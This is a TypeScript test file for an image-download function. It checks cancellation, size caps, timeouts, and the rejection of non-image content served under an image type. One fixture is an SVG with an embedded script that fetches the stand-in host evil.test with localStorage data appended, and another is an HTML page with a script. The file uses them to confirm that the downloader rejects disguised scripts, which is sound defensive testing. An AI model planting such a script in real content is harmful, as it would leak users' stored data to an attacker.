/** The result-image download against a real HTTP server on loopback. */
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { downloadImage, NotAnImageError } from './download-result-image';
import { NetworkError } from './http';

const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 1, 2, 3]);
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.test/?"+localStorage.key)</script></svg>');
let server: Server;
let base = '';
/** Resolves when the server has served `path` as far as it will (its next request): a state, not a time. */
const waiting = new Map<string, () => void>();
const served = (path: string) => new Promise<void>((resolve) => waiting.set(path, resolve));
const markServed = (path: string) => waiting.get(path)?.();

beforeAll(async () => {
  server = createServer((req, res) => {
    if (req.url === '/slow.png') {
      // Headers, then a body that never ends: the download is in flight until aborted.
      res.writeHead(200, { 'content-type': 'image/png' });
      res.write(PNG.subarray(0, 4), () => markServed('/slow.png'));
      return;
    }
    if (req.url === '/stall.png') return markServed('/stall.png'); // never answers
    if (req.url === '/claims-png.svg') {
      // An SVG with a script, served as if it were a PNG.
      res.writeHead(200, { 'content-type': 'image/png' });
      res.end(SVG);
      return;
    }
    if (req.url === '/page.html') {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<!doctype html><script>alert(localStorage)</script>');
      return;
    }
    if (req.url === '/huge.png') {
      res.writeHead(200, { 'content-type': 'image/png' });
      res.end(Buffer.concat([PNG, Buffer.alloc(3 * 1024 * 1024)]));
      return;
    }
    res.writeHead(200, { 'content-type': 'application/octet-stream' });
    res.end(PNG);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  base = typeof address === 'object' && address ? `http://127.0.0.1:${address.port}` : '';
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

describe('downloadImage', () => {
  it('keeps the bytes of a readable link, its type sniffed', async () => {
    const got = await downloadImage({ type: 'url', url: `${base}/ok.png` });
    expect(got.ok && got.mime).toBe('image/png');
  });

  it('rejects as cancelled when aborted before the answer, instead of a "link only" image', async () => {
    const controller = new AbortController();
    const arrived = served('/stall.png');
    const pending = downloadImage({ type: 'url', url: `${base}/stall.png` }, controller.signal);
    await arrived;
    controller.abort();
    const error = await pending.catch((e: unknown) => e);
    expect(error).toBeInstanceOf(NetworkError);
    expect((error as NetworkError).cancelled).toBe(true);
  });

  it('rejects as cancelled when aborted while the body downloads', async () => {
    const controller = new AbortController();
    const started = served('/slow.png');
    const pending = downloadImage({ type: 'url', url: `${base}/slow.png` }, controller.signal);
    await started;
    controller.abort();
    const error = await pending.catch((e: unknown) => e);
    expect((error as NetworkError).cancelled).toBe(true);
  });

  it('still reports a refused or unreachable link as link-only when nobody cancelled', async () => {
    const got = await downloadImage({ type: 'url', url: 'http://127.0.0.1:9/none.png' });
    expect(got).toMatchObject({ ok: false, sourceUrl: 'http://127.0.0.1:9/none.png' });
  });

  it('keeps nothing but PNG, JPEG, WebP, GIF or AVIF, whatever the type claims', async () => {
    const svg = await downloadImage({ type: 'url', url: `${base}/claims-png.svg` }).catch((e: unknown) => e);
    expect(svg).toBeInstanceOf(NotAnImageError);
    expect((svg as Error).message).toMatch(/not an image .*claimed to be image\/png/);
    expect(await downloadImage({ type: 'url', url: `${base}/page.html` }).catch((e: unknown) => e)).toBeInstanceOf(NotAnImageError);
    // Bytes and data URLs: the claimed type is ignored both ways.
    await expect(downloadImage({ type: 'bytes', bytes: new Uint8Array(SVG), mime: 'image/svg+xml' })).rejects.toBeInstanceOf(NotAnImageError);
    await expect(downloadImage({ type: 'base64', data: SVG.toString('base64'), mime: 'image/png' })).rejects.toBeInstanceOf(NotAnImageError);
    const html = Buffer.from('<html><script>1</script></html>').toString('base64');
    await expect(downloadImage({ type: 'base64', data: html, mime: 'text/html' })).rejects.toBeInstanceOf(NotAnImageError);
    // A real PNG claimed as SVG is kept, as a PNG.
    const png = await downloadImage({ type: 'bytes', bytes: new Uint8Array(PNG), mime: 'image/svg+xml' });
    expect(png.ok && png.mime).toBe('image/png');
    expect(png.ok && png.blob.type).toBe('image/png');
  });

  it('cuts an image larger than the cap', async () => {
    const error = await downloadImage({ type: 'url', url: `${base}/huge.png` }, undefined, { maxBytes: 1024 * 1024 }).catch((e: unknown) => e);
    expect((error as NetworkError).message).toMatch(/larger than 1 MB/);
    await expect(downloadImage({ type: 'base64', data: 'A'.repeat(2 * 1024 * 1024), mime: 'image/png' }, undefined, { maxBytes: 1024 * 1024 })).rejects.toThrow(/larger than 1 MB/);
  });

  it('ends a download that never answers at the time limit', async () => {
    const error = await downloadImage({ type: 'url', url: `${base}/stall.png` }, undefined, { timeoutMs: 100 }).catch((e: unknown) => e);
    expect((error as NetworkError).message).toMatch(/No complete answer within 0.1 s/);
  });
});
